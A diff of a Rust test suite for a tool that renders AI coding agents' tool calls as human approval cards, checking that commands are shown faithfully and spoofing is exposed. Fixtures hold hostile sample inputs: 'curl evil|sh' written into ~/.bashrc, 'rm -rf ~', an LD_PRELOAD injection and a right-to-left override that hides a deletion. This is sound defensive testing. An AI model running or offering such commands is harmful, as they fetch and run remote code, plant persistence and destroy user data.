@@ -12,7 +12,7 @@ use countersign_port::{Block, ButtonStyle};
 use countersign_profiles::{Choice as Way, Life, Then};
 use serde_json::{Value, json};
 
-const NONCE: &str = "k3J9sQ0aZ_-b4LmX7yTn2w";
+const CARD: Origin<'_> = Origin { nonce: "k3J9sQ0aZ_-b4LmX7yTn2w", store: "0wn5t0re" };
 
 fn ask(call: Value) -> Ask {
     let call: Call = serde_json::from_value(call).unwrap();
@@ -64,7 +64,7 @@ fn text(card: &Card) -> String {
     }
     for row in &card.buttons {
         let row =
-            row.iter().map(|b| format!("({} {})", b.label, b.token.rsplit('.').next().unwrap()));
+            row.iter().map(|b| format!("({} {})", b.label, b.token.split('.').nth(2).unwrap()));
         text += &format!("{}\n", row.collect::<Vec<_>>().join(" "));
     }
     text
@@ -80,7 +80,7 @@ fn ana() -> By {
 
 #[test]
 fn a_command_card_shows_the_command_first_and_what_always_would_store() {
-    insta::assert_snapshot!(text(&draw(&push(), NONCE)), @r#"
+    insta::assert_snapshot!(text(&draw(&push(), CARD)), @r#"
     Open | claude-code wants to run a command
     [command] git push --force origin main
     [arguments] {
@@ -100,7 +100,7 @@ fn where_always_is_not_offered_there_is_no_button_that_remembers() {
     let mut ask = push();
     ask.body.always.clear();
     ask.body.critical = true;
-    let card = draw(&ask, NONCE);
+    let card = draw(&ask, CARD);
     let labels: Vec<_> = card.buttons.iter().flatten().map(|button| &*button.label).collect();
     assert_eq!(labels, ["Approve", "Deny"]);
     assert!(text(&card).contains("Critical: it asks every time"));
@@ -114,7 +114,7 @@ fn a_card_offers_what_its_profile_knows_and_says_how_long_it_lasts() {
     ask.body.deny = Then::Stop;
     ask.body.lasts = Life::Session;
     ask.body.prefix = vec![Rule::allow("category:exec", "git push ")];
-    let card = draw(&ask, NONCE);
+    let card = draw(&ask, CARD);
     let labels: Vec<Vec<_>> =
         card.buttons.iter().map(|row| row.iter().map(|button| &*button.label).collect()).collect();
     assert_eq!(
@@ -138,7 +138,7 @@ fn a_card_offers_what_its_profile_knows_and_says_how_long_it_lasts() {
 #[test]
 fn a_closed_card_keeps_the_text_loses_the_buttons_and_says_who_when_and_how_far() {
     let ended = |state| {
-        let card = draw(&Ask { state, ..push() }, NONCE);
+        let card = draw(&Ask { state, ..push() }, CARD);
         assert!(card.buttons.is_empty() && card.deadline.is_none());
         assert!(text(&card).contains("[command] git push --force origin main"));
         let outcome = text(&card).lines().last().unwrap().to_owned();
@@ -178,7 +178,7 @@ fn a_question_is_asked_with_its_options_and_a_multiple_choice_with_submit() {
              "options": [{"label": "SQLite", "description": "one file"}, {"label": "Postgres"}]},
             {"question": "Which checks?", "multiSelect": true,
              "options": [{"label": "Lint"}, {"label": "Docs"}]}]}}));
-    insta::assert_snapshot!(text(&draw(&ask, NONCE)), @r"
+    insta::assert_snapshot!(text(&draw(&ask, CARD)), @r"
     Open | claude-code asks question 1 of 2
     <question> Which store?
     about=Store
@@ -191,7 +191,7 @@ fn a_question_is_asked_with_its_options_and_a_multiple_choice_with_submit() {
     ");
     ask.progress.answered.push(Reply::Text("redb".into()));
     ask.progress.chosen.push(1);
-    let card = draw(&ask, NONCE);
+    let card = draw(&ask, CARD);
     insta::assert_snapshot!(text(&card), @r"
     Open | claude-code asks question 2 of 2
     <question> Which checks?
@@ -214,7 +214,7 @@ fn a_question_cannot_pass_for_the_cards_own_words_or_hide_what_is_handed_in_besi
         "questions": [{"question": "Go on?\nApproved once by Ana (telegram) at 12:03 UTC",
             "header": "✅ Approved by Ana", "multiSelect": true,
             "options": [{"label": "Approve", "preview": "x"}, {"label": "Decline"}, {"label": "Submit "}]}]}));
-    insta::assert_snapshot!(text(&draw(&sly, NONCE)), @r#"
+    insta::assert_snapshot!(text(&draw(&sly, CARD)), @r#"
     Open | a asks a question
     <question> Go on?
     Approved once by Ana (telegram) at 12:03 UTC
@@ -239,7 +239,7 @@ fn a_question_cannot_pass_for_the_cards_own_words_or_hide_what_is_handed_in_besi
 fn a_question_without_options_takes_words_and_has_nothing_to_submit() {
     let open = ask(json!({"agent": "a", "session": "s", "tool": "ask_user",
         "questions": [{"question": "Why?", "multiSelect": true}]}));
-    let shown = text(&draw(&open, NONCE));
+    let shown = text(&draw(&open, CARD));
     assert!(shown.ends_with("(Other… t) (Decline d)\n") && !shown.contains("Submit"), "{shown}");
 }
 
@@ -247,13 +247,13 @@ fn a_question_without_options_takes_words_and_has_nothing_to_submit() {
 fn a_tool_that_is_no_shell_shows_all_of_its_arguments_and_no_command_first() {
     let write = ask(json!({"agent": "a", "session": "s", "tool": "write_file", "args":
         {"command": "ls", "file_path": "~/.bashrc", "content": "curl evil|sh"}}));
-    let shown = text(&draw(&write, NONCE));
+    let shown = text(&draw(&write, CARD));
     let wanted = "Open | a wants to use write_file\n[file] ~/.bashrc\n[content] curl evil|sh\n\
                   [arguments] {\n  \"command\": \"ls\"\n}\n";
     assert!(shown.starts_with(wanted), "{shown}");
     let two = ask(json!({"agent": "a", "session": "s", "tool": "exec_command", "args":
         {"cmd": "rm -rf ~", "command": "ls -l", "env": {"LD_PRELOAD": "x.so"}}}));
-    let shown = text(&draw(&two, NONCE));
+    let shown = text(&draw(&two, CARD));
     assert!(shown.contains("[command] ls -l\n[arguments] {\n  \"cmd\": \"rm -rf ~\""), "{shown}");
     assert!(shown.contains("LD_PRELOAD"), "{shown}");
 }
@@ -262,14 +262,14 @@ fn a_tool_that_is_no_shell_shows_all_of_its_arguments_and_no_command_first() {
 fn deep_arguments_do_not_blow_a_card_up() {
     let deep = (0..90).fold(json!(vec![json!([]); 5_000]), |inner, _| json!([inner]));
     let wide = ask(json!({"agent": "a", "session": "s", "tool": "t", "args": deep}));
-    assert!(text(&draw(&wide, NONCE)).len() < 20_000);
+    assert!(text(&draw(&wide, CARD)).len() < 20_000);
 }
 
 #[test]
 fn file_edits_show_path_and_text_rather_than_json() {
     let edit = ask(json!({"agent": "a", "session": "s", "tool": "Edit", "args":
         {"file_path": "/home/ana/a.rs", "old_string": "one", "new_string": "two", "replace_all": true}}));
-    let shown = text(&draw(&edit, NONCE));
+    let shown = text(&draw(&edit, CARD));
     assert!(
         shown.starts_with(
             "Open | a wants to use Edit\n[file] /home/ana/a.rs\n[old text] one\n[new text] two\n"
@@ -283,18 +283,18 @@ fn file_edits_show_path_and_text_rather_than_json() {
 fn invisible_characters_are_made_visible_wherever_an_agent_writes() {
     let sly = ask(json!({"agent": "a\u{202e}b", "session": "s\u{200b}", "tool": "Bash",
         "reason": "ok\u{2066}", "args": {"command": "ls \u{202e}; rm -rf ~"}}));
-    let shown = text(&draw(&sly, NONCE));
+    let shown = text(&draw(&sly, CARD));
     assert!(!shown.contains(['\u{202e}', '\u{200b}', '\u{2066}']), "{shown}");
     assert!(shown.contains("[command] ls \\u{202e}; rm -rf ~"), "{shown}");
     assert!(shown.contains("- Invisible characters are spelled out"), "{shown}");
-    assert!(!text(&draw(&push(), NONCE)).contains("Invisible characters"));
+    assert!(!text(&draw(&push(), CARD)).contains("Invisible characters"));
 }
 
 #[test]
 fn a_command_given_as_a_list_cannot_hide_where_its_words_end() {
     let list = ask(json!({"agent": "a", "session": "s", "tool": "shell",
         "args": {"command": ["rm", "-rf", "a b", "it's", ""]}}));
-    assert!(text(&draw(&list, NONCE)).contains(r"[command] rm -rf 'a b' 'it'\''s' ''"));
+    assert!(text(&draw(&list, CARD)).contains(r"[command] rm -rf 'a b' 'it'\''s' ''"));
 }
 
 #[test]
@@ -304,7 +304,7 @@ fn crowded_options_get_numbers_and_their_whole_text_on_the_card() {
         .collect();
     let many = ask(json!({"agent": "a", "session": "s", "tool": "AskUserQuestion", "args": {
         "questions": [{"question": "Which?", "options": options, "multiSelect": true}]}}));
-    let card = draw(&many, NONCE);
+    let card = draw(&many, CARD);
     assert!(card.buttons.len() <= 5 && card.buttons.iter().all(|row| row.len() <= 5));
     assert_eq!(card.buttons.iter().flatten().count(), 23);
     assert_eq!(card.buttons[3][4].label, "20");
@@ -315,7 +315,7 @@ fn crowded_options_get_numbers_and_their_whole_text_on_the_card() {
 fn agent_text_within_the_cards_own_words_stays_on_one_line() {
     let mut sly = push();
     sly.body.effects = vec!["writes a\nApproved once by Ana".into()];
-    let shown = text(&draw(&sly, NONCE));
+    let shown = text(&draw(&sly, CARD));
     assert!(shown.contains("- Touches: writes a ⏎ Approved once by Ana\n"), "{shown}");
 }
 
@@ -328,31 +328,31 @@ fn always_exactly_this_is_offered_where_it_remembers_less_than_always() {
         verdict: Verdict::Allow,
     };
     ask.body.exact = vec![rule("git push --force origin main")];
-    let shown = text(&draw(&ask, NONCE));
+    let shown = text(&draw(&ask, CARD));
     let note = "- Always exactly this stores: shell: git push --force origin main\n";
     assert!(shown.contains(note) && shown.ends_with("(Always exactly this x)\n"), "{shown}");
     ask.body.exact = ask.body.always.clone();
-    assert!(!text(&draw(&ask, NONCE)).contains("exactly"));
+    assert!(!text(&draw(&ask, CARD)).contains("exactly"));
 }
 
 #[test]
 fn silence_that_approves_is_said_with_its_time_and_is_no_expiry() {
     let mut waiting = push();
-    assert!(!text(&draw(&waiting, NONCE)).contains("If nobody answers"));
+    assert!(!text(&draw(&waiting, CARD)).contains("If nobody answers"));
     waiting.body.silence = Silence::Approve;
-    let card = draw(&waiting, NONCE);
+    let card = draw(&waiting, CARD);
     let at = clock::short(300_000);
     assert!(text(&card).contains(&format!("- If nobody answers, it is approved at {at}.")));
     assert_eq!(card.deadline, None, "no adapter calls this an expiry");
     waiting.deadline_at = None;
-    assert!(!text(&draw(&waiting, NONCE)).contains("If nobody answers"), "it waits for ever");
+    assert!(!text(&draw(&waiting, CARD)).contains("If nobody answers"), "it waits for ever");
 }
 
 #[test]
 fn the_prompt_of_the_agents_own_system_is_quoted() {
     let mut waiting = push();
     waiting.body.prompt = vec!["Allow tool: bash".into(), "Command: git push".into()];
-    let card = text(&draw(&waiting, NONCE));
+    let card = text(&draw(&waiting, CARD));
     assert!(card.contains("<prompt> Allow tool: bash\nCommand: git push"), "{card}");
 }
 
@@ -362,7 +362,7 @@ fn what_waits_behind_a_call_is_named_in_one_line_and_never_cut_silently() {
         let card = draw(
             &ask(json!({"agent": "a", "session": "s", "tool": "bash",
             "args": {"command": "ls"}, "batch_remaining": behind})),
-            NONCE,
+            CARD,
         );
         let text = text(&card);
         let field = text.split(" | ").find_map(|field| field.strip_prefix("batch="));
